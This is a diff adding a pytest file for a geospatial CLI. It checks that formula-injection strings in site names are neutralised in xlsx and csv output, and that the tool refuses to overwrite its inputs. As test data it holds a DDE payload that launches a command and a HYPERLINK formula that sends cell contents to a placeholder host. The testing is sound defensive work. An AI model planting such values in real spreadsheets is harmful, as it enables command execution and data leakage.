@@ -1,0 +1,104 @@
+"""Hostile inputs (issue 18): what an uploader with bad intent tries, each probe a test.
+
+Formula injection: a site name or id such as ``=HYPERLINK("http://x/?"&A1,"click")`` must stay
+text in every sheet of every xlsx Anzhi writes, and csv cells starting with ``= + - @ \\t \\r``
+are neutralised with a leading ``'`` (OWASP), while numbers stay numbers.  Overwriting inputs:
+an output path that is an input is refused before anything runs, and the input is unchanged.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import numpy as np
+import openpyxl
+import pandas as pd
+import pytest
+
+from anzhi.cli import main
+from anzhi.core.errors import InputError
+from anzhi.core.files import check_outputs_apart
+from layers.export import FORMULA_STARTS, csv_safe, write_outputs
+from tests.layers.test_export import results  # noqa: F401  (the fixture)
+
+HOSTILE = '=HYPERLINK("http://x/?"&A1,"click")'
+
+
+def _formulas(path: Path) -> list[str]:
+    wb = openpyxl.load_workbook(path)
+    return [f"{ws.title}!{c.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
+            for c in row if c.data_type == "f"]
+
+
+def test_hostile_names_stay_text_in_every_output(tmp_path: Path, results) -> None:  # noqa: F811
+    gaps, coverage, access, rules = results
+    gaps = gaps.copy()
+    gaps["site_name"] = HOSTILE
+    gaps["site_id"] = gaps["site_id"].where(gaps.index % 2 == 0, "@SUM(1+1)")
+    gaps["township"] = "+cmd|' /C calc'!A0"
+    write_outputs(tmp_path, gaps=gaps, coverage=coverage, access=access, rules=rules)
+    assert _formulas(tmp_path / "gaps.xlsx") == []
+    wb = openpyxl.load_workbook(tmp_path / "gaps.xlsx")
+    texts = {c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row}
+    assert HOSTILE in texts and "@SUM(1+1)" in texts  # kept, as text
+    csv = pd.read_csv(tmp_path / "gaps.csv", encoding="utf-8-sig", keep_default_na=False)
+    assert set(csv["site_name"]) == {"'" + HOSTILE}
+    assert set(csv["township"]) == {"'+cmd|' /C calc'!A0"}
+    assert not any(str(v).startswith(FORMULA_STARTS) for col in csv.columns
+                   if csv[col].dtype == object for v in csv[col])
+    # numbers are still numbers
+    assert pd.api.types.is_numeric_dtype(csv["population"])
+    assert (csv["population"] > 0).all()
+
+
+def test_the_formula_check_can_fail(tmp_path: Path) -> None:
+    wb = openpyxl.Workbook()
+    wb.active.append([HOSTILE])  # openpyxl's default: a live formula
+    wb.save(tmp_path / "x.xlsx")
+    assert _formulas(tmp_path / "x.xlsx") == ["Sheet!A1"]
+
+
+def test_csv_safe_leaves_numbers_and_plain_text() -> None:
+    df = pd.DataFrame({"name": ["=1+1", "-x", "normal", "\tab", None], "n": [-1.5, 2, 3, np.nan, 0]})
+    out = csv_safe(df)
+    assert out["name"].tolist()[:4] == ["'=1+1", "'-x", "normal", "'\tab"]
+    assert pd.isna(out["name"].iloc[4])  # missing stays missing
+    assert out["n"].equals(df["n"])
+    assert df["name"].iloc[0] == "=1+1"  # the input frame is not modified
+
+
+@pytest.mark.parametrize("command", ["slope", "access", "gaps", "land"])
+def test_cli_refuses_to_overwrite_an_input(tmp_path: Path, demo, capsys, command: str) -> None:
+    dem = tmp_path / "dem.tif"
+    dem.write_bytes(Path(demo.dem).read_bytes())
+    sites = tmp_path / "access.csv"  # named as an output of the folder commands would be
+    sites.write_text("安置点名称,经度,纬度,人数\nA,99.2,24.7,100\n", encoding="utf-8")
+    parcels = tmp_path / "slope.tif"
+    parcels.write_bytes(b"not really parcels")
+    before = {p: p.read_bytes() for p in (dem, sites, parcels)}
+    args = {
+        "slope": ["slope", "--dem", str(dem), "--out", str(dem)],
+        "access": ["access", "--sites", str(sites), "--roads", str(demo.roads), "--out", str(sites)],
+        "gaps": ["gaps", "--sites", str(sites), "--roads", str(demo.roads), "--out", str(tmp_path)],
+        "land": ["land", "--dem", str(dem), "--parcels", str(parcels), "--out", str(tmp_path)],
+    }[command]
+    assert main(args) != 0
+    err = capsys.readouterr().err
+    assert "is also an input" in err and "Traceback" not in err
+    assert {p: p.read_bytes() for p in (dem, sites, parcels)} == before
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["access.csv", "dem.tif", "slope.tif"]
+
+
+def test_outputs_apart(tmp_path: Path) -> None:
+    a = tmp_path / "a.csv"
+    a.write_text("x")
+    link = tmp_path / "link.csv"
+    link.symlink_to(a)
+    check_outputs_apart([tmp_path / "out.csv"], [a])  # fine
+    with pytest.raises(InputError, match="is also an input"):
+        check_outputs_apart([link], [a])
+    check_outputs_apart([tmp_path / "out"], [a], folder_files={tmp_path / "out": ["a.csv"]})
+    # an output folder that would hold one of the inputs' own names in that very folder
+    with pytest.raises(InputError, match="is also an input"):
+        check_outputs_apart([tmp_path], [a], folder_files={tmp_path: ["a.csv", "b.csv"]})
+    check_outputs_apart([tmp_path], [a], folder_files={tmp_path: ["b.csv"]})
